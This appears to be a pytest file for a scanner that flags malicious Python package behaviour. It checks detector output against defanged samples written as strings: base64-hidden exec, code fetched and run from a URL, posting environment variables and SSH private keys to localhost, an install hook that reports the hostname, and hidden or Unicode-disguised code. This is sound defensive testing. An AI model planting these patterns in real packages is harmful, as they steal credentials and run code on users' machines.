"""What code does at a moment at which nobody has asked for anything: real patterns, written so that they do no harm."""

from __future__ import annotations

import random

import pytest

from tests.effort import within
from wardline_analyzers.package_code.moments import Moment, moment_of
from wardline_analyzers.package_code.signs import signs

INSTALL, IMPORT, START = Moment.INSTALL, Moment.IMPORT, Moment.START
BLOB = "QUJD" * 100
STYLED = "".join(chr(0x1D622 + ord(letter) - ord("a")) for letter in "exec")
BOLD_X, WIDE = chr(0x1D431), "".join(chr(0xFEE0 + ord(letter)) for letter in "exec")

BAD = [
    (
        IMPORT,
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "runs code that is hidden in data, when it is imported",
    ),
    (IMPORT, "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n", "hidden in data"),
    (IMPORT, "exec(''.join(map(chr, [112, 97])))\n", "hidden in data"),
    (IMPORT, "exec(bytes.fromhex('70617373'))\n", "hidden in data"),
    (IMPORT, "class A:\n    eval(compile(__import__('base64').b64decode(b'MQ=='), '', 'eval'))\n", "hidden in data"),
    (IMPORT, "from urllib.request import urlopen\nexec(urlopen('http://localhost/x').read())\n", "that it fetches"),
    (
        IMPORT,
        "import os, requests\nrequests.post('http://localhost', json=dict(os.environ))\n",
        "sends what is found by",
    ),
    (
        IMPORT,
        "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://localhost', data=key)\n",
        "sends what is found by `.ssh/`",
    ),
    (
        INSTALL,
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nimport socket, requests\n"
        "class Install(install):\n    def run(self):\n        requests.get('http://localhost/' + socket.gethostname())\n"
        "setup(name='x', cmdclass={'install': Install})\n",
        "tells others who you are, when it is installed",
    ),
    (
        IMPORT,
        "import subprocess, urllib.request\nurllib.request.urlretrieve('http://localhost/x', 'x')\nsubprocess.run(['./x'])\n",
        "reaches the network and starts programs",
    ),
    (IMPORT, "import base64\ndef _go():\n    exec(base64.b64decode('cGFzcw=='))\n_go()\n", "hidden in data"),
    (
        IMPORT,
        "import base64\nclass _A:\n    def __init__(self):\n        self.b()\n    def b(self):\n        exec(base64.b64decode('cA=='))\n_A()\n",
        "hidden in data",
    ),
    (
        IMPORT,
        "import base64\nclass B:\n    def __init__(self):\n        exec(base64.b64decode('cA=='))\nclass C(B): pass\nC()\n",
        "hidden in data",
    ),
    (
        IMPORT,
        "import threading, base64\ndef _go():\n    exec(base64.b64decode('cA=='))\nthreading.Thread(target=_go).start()\n",
        "hidden in data",
    ),
    (
        IMPORT,
        "import base64\ndef _deco(f):\n    exec(base64.b64decode('cA=='))\n    return f\n@_deco\ndef x(): pass\n",
        "hidden in data",
    ),
    (IMPORT, "import base64\n(lambda: exec(base64.b64decode('cA==')))()\n", "hidden in data"),
    (
        IMPORT,
        "import importlib\n" + "importlib.import_module('a')\n" * 9 + "import base64\nexec(base64.b64decode('cA=='))\n",
        "hidden in data",
    ),
    (IMPORT, "import base64\nif __name__ == 'pkg.mod':\n    exec(base64.b64decode('cA=='))\n", "hidden in data"),
    (
        INSTALL,
        "import base64\nif __name__ == '__main__':\n    exec(base64.b64decode('cA=='))\n",
        "hidden in data, when it is installed",
    ),
    (IMPORT, f"import base64\n{STYLED}(base64.b64decode('cA=='))\n", "disguised"),
    (IMPORT, "x = 1" + " " * 200 + ";import os\n", "pushed out of sight"),
    (START, "import os; exec(\"eval('hi')\")\n", "runs code whenever Python starts"),
    (START, "import os; exec('im' + 'port x')\n", "runs code whenever Python starts"),
    (START, "import os; exec('import sub\\x70rocess')\n", "runs code whenever Python starts"),
    (START, "import subprocess;subprocess.Popen(['true'])\n", "whenever Python starts"),
]

GOOD = [
    (INSTALL, "from setuptools import setup\nexec(open('src/version.py').read())\nsetup(name='x')\n"),
    (
        INSTALL,
        "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['cmake', '.'])\nsetup(name='x')\n",
    ),
    (INSTALL, "import os\nfrom setuptools import setup\nsetup(name='x', version=os.environ.get('V', '1'))\n"),
    (
        IMPORT,
        "import os\nDEBUG = os.environ.get('DEBUG')\nfrom requests import get\ndef fetch(u):\n    return get(u)\n",
    ),
    (IMPORT, "import base64\nicon = base64.b64decode('QUJD')\n"),
    (IMPORT, "import base64\ndef load(text):\n    exec(base64.b64decode(text))\n"),
    (
        IMPORT,
        "import requests, subprocess\nif __name__ == '__main__':\n    requests.get('http://x')\n    subprocess.run(['x'])\n",
    ),
    (IMPORT, "exec('class A: pass')\n"),
    (IMPORT, "import requests\nif requests:\n    class A:\n        def f(self):\n            requests.get('x')\n"),
    (IMPORT, "import requests\nfetch = lambda url: requests.get(url)\n"),
    (IMPORT, "import base64\ndef load(text):\n    exec(base64.b64decode(text))\ndef other():\n    load('x')\n"),
    (IMPORT, "import base64\nclass A:\n    def get(self):\n        exec(base64.b64decode('cA=='))\nx = {}.get('a')\n"),
    (IMPORT, "import socket\nclass A:\n    resolve = staticmethod(socket.getaddrinfo)\n"),
    (IMPORT, "import logging.handlers\nkinds = {'socket': logging.handlers.SocketHandler('localhost', 514)}\n"),
    (
        IMPORT,
        "from urllib.request import urlopen\ndef _open(name):\n    return urlopen(name) if '://' in name else open(name)\nSETTINGS = _open('rc').read()\n",
    ),
    (IMPORT, f"{BOLD_X} = 1  # {WIDE}\nprint('{STYLED}')\n"),
    (START, "import os; exec('import os\\n\\nif os.getenv(\"MEASURE\"):\\n import measure\\n measure.start()')\n"),
    (START, "/usr/share/lib\nimport _virtualenv\n"),
    (START, "import __editable___x_finder; __editable___x_finder.install()\n"),
]


@pytest.mark.parametrize(("moment", "text", "why"), BAD)
def test_what_malicious_packages_do(moment: Moment, text: str, why: str) -> None:
    sure = [sign for sign in signs(text.encode(), moment) if sign.sure]
    assert any(why in sign.why for sign in sure), sure


@pytest.mark.parametrize(("moment", "text"), GOOD)
def test_what_others_do_as_well(moment: Moment, text: str) -> None:
    assert signs(text.encode(), moment) == []


def test_a_payload_in_a_variable_is_worth_a_look() -> None:
    text = f"import base64\np = '{BLOB}'\ncode = base64.b64decode(p)\nexec(code)\n"
    (sign,) = signs(text.encode(), IMPORT)
    assert (sign.sure, sign.start, sign.what) == (False, text.index("exec("), "exec(code)")


def test_text_that_nobody_sees() -> None:
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "run rm")
    (sign,) = signs(f"x = 1  # {hidden}\n".encode(), IMPORT)
    assert sign.sure and "run rm" in sign.what


def test_when_files_run() -> None:
    assert moment_of("setup.py", False) is INSTALL and moment_of("setup.py", True) is IMPORT
    assert moment_of("sub/setup.py", False) is IMPORT
    assert moment_of("build/backend.py", False, frozenset(("build/backend",))) is INSTALL
    assert moment_of("a.pth", True) is START and moment_of("x-1.data/purelib/a.pth", True) is START
    assert moment_of("pkg/__init__.py", True) is IMPORT
    assert moment_of("tests/test_x.py", False) is None and moment_of("docs/conf.py", False) is None
    assert moment_of("pkg/tools/x.py", True) is IMPORT and moment_of("pkg/tools/x.py", False) is None
    assert moment_of("manual tests/4 x/x.py", False) is None and moment_of("a/mypy_tests/x.py", False) is None
    assert moment_of("a/mypy_tests/x.py", True) is moment_of("contest/x.py", False) is IMPORT
    assert moment_of("README.md", False) is None


def test_any_text_costs_little() -> None:
    chance = random.Random(3)
    words = [
        "exec(",
        "base64.b64decode(",
        "os.environ",
        "requests.get(",
        "if __name__ ==",
        "\n",
        " " * 130,
        "(",
        ")",
        "'",
        "\0",
        ";",
    ]
    for _ in range(150):
        signs("".join(chance.choices(words, k=60)).encode(), chance.choice(list(Moment)))
    for text in (
        b"exec(" * 20_000,
        b"if __name__ == 1:\n" * 20_000,
        b" " * 300_000,
        b"a" + b" " * 300_000,
        b"x = '" + b"\\x41" * 50_000,
    ):
        with within(15):
            signs(text, IMPORT)
